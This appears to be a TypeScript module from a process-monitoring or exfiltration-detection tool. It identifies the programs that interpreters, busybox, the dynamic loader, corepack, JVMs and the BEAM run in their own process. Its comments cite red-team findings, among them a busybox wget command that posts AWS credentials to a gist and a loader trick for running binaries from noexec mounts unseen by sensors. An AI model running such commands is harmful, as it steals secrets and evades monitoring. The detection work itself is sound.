/**
 * Programs that run another program in their own process, so the sensors report them and not it: an
 * interpreter running a script tool (a shebang line makes `npm publish` exec `node /usr/local/bin/npm
 * publish`), a multi-call binary running an applet (`busybox wget …`), the dynamic loader run by hand
 * (`ld-linux-x86-64.so.2 /usr/bin/curl …`), corepack running a package manager (`corepack pnpm …`), and a JVM
 * running a build tool's launcher class (`java … org.codehaus.plexus.classworlds.launcher.Launcher deploy`), and a
 * BEAM running mix (`beam.smp … -extra /usr/local/bin/mix hex.publish`).
 * ./recognize.ts recognises the process as the program it runs.
 */
import { basename, tokenize } from './argv.js';
import type { ProcessView } from './recognize.js';

export interface LaunchView {
  binary: string | null;
  args: string | null;
  /** The arguments `args` holds, where the sensor joined them unquoted (ProcessView.argvCount). */
  argvCount?: number | undefined;
}

/** A program a process runs in itself: `module` when an interpreter runs it by name (`python -m pip`), no file. */
export interface LaunchedProgram {
  binary: string;
  args: string;
  module?: true;
}

/** The program a process runs in itself and its arguments, or null. */
export function launchedProgram(view: LaunchView): LaunchedProgram | null {
  const program = scriptOf(view) ?? appletOf(view) ?? loadedProgramOf(view) ?? javaMainOf(view) ?? escriptOf(view);
  // corepack is itself a node script: `node /usr/local/bin/corepack pnpm publish` launches twice.
  return corepackOf(program ?? view) ?? program;
}

/**
 * `{ ...view, ...program }`, except that the parent's fields are read from `view` only when asked: a caller may
 * note whether an answer read them (../correlate/recognition-memo.ts keeps an answer that did not per command
 * line; a script run by its interpreter, `python3 -m worker` under a `containerd-shim -id <container>`, did
 * read them through the spread, so each container's was recognized again).
 */
export function launchedView(view: ProcessView, program: LaunchedProgram): ProcessView {
  return {
    ...program,
    get parentBinary() {
      return view.parentBinary;
    },
    get parentArgs() {
      return view.parentArgs;
    },
    ...(view.argvTruncated !== undefined ? { argvTruncated: view.argvTruncated } : {}),
    ...('argvCount' in view ? { argvCount: view.argvCount } : {}),
  };
}

/**
 * The name of the package manager a JavaScript file is, by the names its distributions give it: corepack's
 * shims (`corepack/dist/pnpm.js`, `yarn.js`, `npm.js`), the version corepack caches (`…/pnpm/9.1.0/bin/
 * pnpm.cjs`), a Yarn release checked into a repository (`.yarn/releases/yarn-4.1.0.cjs`, `yarn-berry.cjs`,
 * which `yarnPath` runs) and npm's own entry (`npm/bin/npm-cli.js`). Found by review: run that way, which is
 * how corepack and `yarnPath` run them, no publish was a push. Null for any other name.
 */
export function packageManagerName(name: string): string | null {
  // Every process's name comes here: most are no JavaScript file, and no regex need run for them.
  if (!name.endsWith('js')) return null;
  if (/^pnpm\.[cm]?js$/.test(name)) return 'pnpm';
  if (/^yarn(?:-[\w.+-]+)?\.c?js$/.test(name)) return 'yarn';
  if (/^npm(?:-cli)?\.c?js$/.test(name)) return 'npm';
  return null;
}

/**
 * `corepack pnpm@9.1.0 publish`: corepack runs the package manager it names (a version may follow `@`) in
 * its own process. The package manager is named beside corepack's own path so that where corepack was
 * started from still counts for the location rule (./locations.ts).
 */
function corepackOf(view: LaunchView): { binary: string; args: string } | null {
  const name = basename(view.binary);
  if (name !== 'corepack' && !/^corepack\.c?js$/.test(name)) return null;
  const words = tokenize(view.args);
  const pm = /^(npm|pnpm|yarn)(?:@\S*)?$/.exec(words[0] ?? '');
  if (pm === null) return null;
  const dir = view.binary!.slice(0, view.binary!.length - name.length);
  return { binary: `${dir}${pm[1]}`, args: quoteWords(words.slice(1)) };
}

/**
 * The dynamic loader runs the program its first word names, in its own process: `/lib64/ld-linux-x86-64.so.2
 * /tmp/x -d @FILE URL` is how a program is run from a `noexec` mount, and the sensors report the loader
 * (found by red-team review: no push). glibc's and musl's loaders, any architecture; before glibc 2.34 the
 * loader is `ld-2.31.so` that `ld-linux-x86-64.so.2` links to, the name a sensor reports once the link is
 * resolved (Debian 11, Ubuntu 20.04, Amazon Linux 2; found by review).
 */
const LOADER = /^ld(?:64)?(?:-linux(?:-[a-z0-9_-]+)?|-musl-[a-z0-9_]+|-\d+\.\d+)?\.so(?:\.\d+)*$/;
const LOADER_VALUED = new Set([
  '--library-path',
  '--preload',
  '--argv0',
  '--audit',
  '--inhibit-rpath',
  '--glibc-hwcaps-prepend',
  '--glibc-hwcaps-mask',
]);

function loadedProgramOf(view: LaunchView): { binary: string; args: string } | null {
  if (!LOADER.test(basename(view.binary))) return null;
  const words = tokenize(view.args);
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (LOADER_VALUED.has(w)) i++;
    else if (!w.startsWith('-')) return { binary: w, args: quoteWords(words.slice(i + 1)) };
  }
  return null;
}

/**
 * Multi-call binaries: `busybox APPLET args…` runs the applet without an exec (found by red-team review:
 * `busybox wget --post-file=/root/.aws/credentials https://api.github.com/gists` was no push, where the
 * same applet run through its `wget` link is one). Their own options come before the applet.
 */
export const MULTI_CALL: ReadonlySet<string> = new Set(['busybox', 'toybox']);

export function appletOf(view: LaunchView): { binary: string; args: string } | null {
  if (!MULTI_CALL.has(basename(view.binary))) return null;
  const words = tokenize(view.args);
  const at = words.findIndex((w) => !w.startsWith('-'));
  const applet = words[at];
  if (applet === undefined || MULTI_CALL.has(basename(applet))) return null;
  return { binary: applet, args: quoteWords(words.slice(at + 1)) };
}

/**
 * The build tools whose scripts exec a JVM in their own process (`mvn`, `mvnw`, `gradle`, `gradlew`, the jib CLI
 * all end in `exec java … MAIN "$@"`): that JVM, the process that connects and uploads, is the tool, known by its
 * main class, or by the wrapper jar it runs (`java -jar gradle/wrapper/gradle-wrapper.jar`, as recent
 * gradlew scripts run it). Else only the shell running the script would carry their names, and a shell is no
 * interpreter the table knows: `mvn deploy` and `./gradlew publish` would be no push. Maps: `constructor` is no key.
 */
const JAVA_MAINS: ReadonlyMap<string, string> = new Map([
  ['org.codehaus.plexus.classworlds.launcher.Launcher', 'mvn'],
  ['org.apache.maven.wrapper.MavenWrapperMain', 'mvn'],
  ['org.gradle.launcher.GradleMain', 'gradle'],
  ['org.gradle.wrapper.GradleWrapperMain', 'gradle'],
  ['com.google.cloud.tools.jib.cli.JibCli', 'jib'],
  // sbt's launcher class (its script runs the jar below); found by red-team review, `sbt publish` was no push.
  ['xsbt.boot.Boot', 'sbt'],
]);
const JAVA_JARS: ReadonlyMap<string, string> = new Map([
  ['gradle-wrapper.jar', 'gradle'],
  ['sbt-launch.jar', 'sbt'],
]);
/**
 * Leiningen runs as `clojure.main -m leiningen.core.main ARGS`: clojure.main is every Clojure program's main,
 * so only with lein's namespace after `-m` is it lein.
 */
const CLOJURE_MAIN = 'clojure.main';
const LEIN_NAMESPACE = 'leiningen.core.main';
/** The java launcher's options that take the next word (`-cp PATH`); the rest are one word (`-Dk=v`, `-Xmx1g`). */
const JAVA_VALUED = new Set([
  '-cp',
  '-classpath',
  '--class-path',
  '-p',
  '--module-path',
  '--upgrade-module-path',
  '--add-modules',
  '--add-opens',
  '--add-exports',
  '--add-reads',
  '--patch-module',
  '--limit-modules',
  '--enable-native-access',
]);

/** Checked in a JVM's command line before it is split: most JVMs are applications, with KiBs of classpath. */
const JAVA_LAUNCHER_MARKS = [...JAVA_MAINS.keys(), ...JAVA_JARS.keys(), LEIN_NAMESPACE];

function javaMainOf(view: LaunchView): { binary: string; args: string } | null {
  const name = basename(view.binary);
  const args = view.args;
  if (name !== 'java' || !args || !JAVA_LAUNCHER_MARKS.some((mark) => args.includes(mark))) return null;
  const words = tokenize(args);
  // Falco joins argv unquoted: a launcher option holding a space (`-Dmaven.multiModuleProjectDirectory=/var/
  // jenkins_home/workspace/My Job`, a classpath there) leaves as many stray words before the main class or
  // jar as the words outnumber the arguments.
  let strays = view.argvCount === undefined ? 0 : Math.max(0, words.length - view.argvCount);
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    // An `@argfile` holds more options (IDEs and long classpaths use them): the main class may follow it.
    if (w.startsWith('@')) continue;
    if (JAVA_VALUED.has(w)) i++;
    else if (w === '-jar') {
      for (let jar = i + 1; jar <= i + 1 + strays && jar < words.length; jar++) {
        const tool = JAVA_JARS.get(basename(words[jar]!));
        if (tool !== undefined) return javaProgram(view.binary!, tool, words, jar + 1);
      }
      return null;
    } else if (!w.startsWith('-')) {
      const tool = JAVA_MAINS.get(w);
      if (tool !== undefined) return javaProgram(view.binary!, tool, words, i + 1);
      if (w === CLOJURE_MAIN && words[i + 1] === '-m' && words[i + 2] === LEIN_NAMESPACE)
        return javaProgram(view.binary!, 'lein', words, i + 3);
      if (strays-- === 0) return null;
    }
  }
  return null;
}

function javaProgram(java: string, tool: string, words: readonly string[], from: number) {
  return { binary: `${java.slice(0, java.length - 'java'.length)}${tool}`, args: quoteWords(words.slice(from)) };
}

/**
 * An Elixir escript (`mix`, shebang `elixir`) runs in the BEAM that elixir's and erl's scripts exec: `beam.smp
 * -- -root … -s elixir start_cli -extra /usr/local/bin/mix hex.publish`. That BEAM uploads, and names the
 * escript after `-extra`, past elixir's own options (found by red-team review: `mix hex.publish` was no push).
 * Only mix is taken: any Elixir script runs that way.
 */
const BEAM = /^(?:beam(?:\.smp)?|erlexec)$/;
const ELIXIR_VALUED = new Set(['-r', '-pr', '-pa', '-pz', '--sname', '--name', '--cookie', '--erl', '--boot']);
const ELIXIR_INLINE = new Set(['-e', '--eval', '--rpc-eval']);

function escriptOf(view: LaunchView): { binary: string; args: string } | null {
  if (!BEAM.test(basename(view.binary)) || !view.args?.includes('-extra')) return null;
  const words = tokenize(view.args);
  for (let i = words.indexOf('-extra') + 1; i > 0 && i < words.length; i++) {
    const w = words[i]!;
    if (ELIXIR_INLINE.has(w)) return null;
    if (ELIXIR_VALUED.has(w)) i++;
    else if (!w.startsWith('-'))
      return basename(w) === 'mix' ? { binary: w, args: quoteWords(words.slice(i + 1)) } : null;
  }
  return null;
}

/** How an interpreter's command line names the script it runs (shebang tools: npm, twine, hg, gem). */
interface ScriptRuntime {
  /** Options whose code is inline: no script file. */
  inline: ReadonlySet<string>;
  /** Options that take the next word as their value (`ruby -I lib SCRIPT`). */
  valued: ReadonlySet<string>;
  /** `python -m MODULE`: the module is the program. */
  module: boolean;
  /** Valued options whose value is code loaded into the process before its program (`node -r FILE`). */
  preload: ReadonlySet<string>;
}
const NODE_RUNTIME: ScriptRuntime = {
  inline: new Set(['-e', '--eval', '-p', '--print']),
  valued: new Set(['-r', '--require', '--import', '--loader', '--experimental-loader', '-C', '--conditions']),
  module: false,
  preload: new Set(['-r', '--require', '--import', '--loader', '--experimental-loader']),
};
const PYTHON_RUNTIME: ScriptRuntime = {
  inline: new Set(['-c']),
  valued: new Set(['-W', '-X']),
  module: true,
  preload: new Set(),
};
const RUBY_RUNTIME: ScriptRuntime = {
  inline: new Set(['-e']),
  valued: new Set(['-I', '-r', '-C', '-E', '--encoding']),
  module: false,
  preload: new Set(['-r']),
};

function scriptRuntimeOf(name: string): ScriptRuntime | null {
  if (name === 'node' || name === 'nodejs' || name === 'bun') return NODE_RUNTIME;
  if (/^python[0-9.]*$/.test(name)) return PYTHON_RUNTIME;
  if (/^ruby[0-9.]*$/.test(name)) return RUBY_RUNTIME;
  return null;
}

/**
 * The script an interpreter runs and its arguments: `node [opts] SCRIPT args…`, `python [opts] SCRIPT
 * args…`, `ruby [opts] SCRIPT args…`, or `python -m MODULE args…` (the module as the binary). Null for
 * anything else, inline code (`-c`, `-e`: the script-upload matcher reads those) included.
 */
function scriptOf(view: LaunchView): LaunchedProgram | null {
  const runtime = scriptRuntimeOf(basename(view.binary));
  if (runtime === null) return null;
  const words = tokenize(view.args);
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    if (runtime.inline.has(w)) return null;
    if (runtime.module && w === '-m') {
      const module = words[i + 1];
      return module ? { binary: module, args: quoteWords(words.slice(i + 2)), module: true } : null;
    }
    if (runtime.valued.has(w)) {
      i++;
      continue;
    }
    if (runtime.module && /^-[A-Za-z]{2,}/.test(w)) {
      // Python's short flags bundle, the last taking its value attached or as the next word: `-Im azure.cli`
      // is how az runs, `-mazure.cli`, `-Wignore`, `-Ic CODE` (inline).
      const bundled = pythonBundle(w);
      if (bundled === 'inline') return null;
      if (bundled !== null && bundled.flag === 'm') {
        const module = bundled.value ?? words[i + 1];
        const rest = bundled.value === null ? i + 2 : i + 1;
        return module ? { binary: module, args: quoteWords(words.slice(rest)), module: true } : null;
      }
      if (bundled !== null && bundled.value === null) i++;
      continue;
    }
    if (w.startsWith('-')) continue;
    return { binary: w, args: quoteWords(words.slice(i + 1)) };
  }
  return null;
}

/**
 * The files an interpreter loads into its own process before its program, from the options before it (node's
 * `-r`/`--require`, `--import`, loaders, also as `--require=FILE`; ruby's `-r`): that code runs as the program.
 */
export function preloadedFiles(view: LaunchView): string[] {
  const runtime = scriptRuntimeOf(basename(view.binary));
  if (runtime === null || runtime.preload.size === 0) return [];
  const files: string[] = [];
  const words = tokenize(view.args);
  for (let i = 0; i < words.length; i++) {
    const w = words[i]!;
    // The program: what follows is its own.
    if (!w.startsWith('-')) break;
    const eq = w.indexOf('=');
    const option = eq < 0 ? w : w.slice(0, eq);
    if (runtime.preload.has(option)) {
      const value = eq < 0 ? words[++i] : w.slice(eq + 1);
      if (value) files.push(value);
    } else if (eq < 0 && runtime.valued.has(option)) i++;
  }
  return files;
}

/** A bundle of Python short flags: the one taking a value (`c`, `m`, `W`, `X`) and its attached value, if any. */
function pythonBundle(word: string): 'inline' | { flag: string; value: string | null } | null {
  for (let k = 1; k < word.length; k++) {
    const flag = word[k]!;
    if (flag === 'c') return 'inline';
    if (flag === 'm' || flag === 'W' || flag === 'X')
      return { flag, value: k + 1 < word.length ? word.slice(k + 1) : null };
  }
  return null;
}

/**
 * The tool a Python entry point is: gcloud's wrapper script execs `python3 -S …/lib/gcloud.py ARGS` and az's
 * `python3 -Im azure.cli ARGS`, in the same process, so that Python is what connects and the tool's name is
 * only its script or module (found by red-team review: no gcloud or az push was seen). Null otherwise.
 */
export function pythonToolName(name: string): string | null {
  if (name === 'gcloud.py') return 'gcloud';
  if (name === 'azure.cli') return 'az';
  return null;
}

/** Words back into an argv string that tokenize() splits into the same words. */
export function quoteWords(words: readonly string[]): string {
  return words.map(quoteWord).join(' ');
}

function quoteWord(w: string): string {
  if (!/[\s'"]/.test(w)) return w;
  if (!w.includes('"')) return `"${w}"`;
  if (!w.includes("'")) return `'${w}'`;
  // Both kinds (`user.name=Pat O'Brien "ci"`): tokenize() joins quoted pieces, so each `"` goes in single quotes
  // and the rest in double ones. Found by review: quoted whole, the word broke apart and no reading was a push.
  return w
    .split('"')
    .map((piece) => (piece === '' ? '' : `"${piece}"`))
    .join(`'"'`);
}
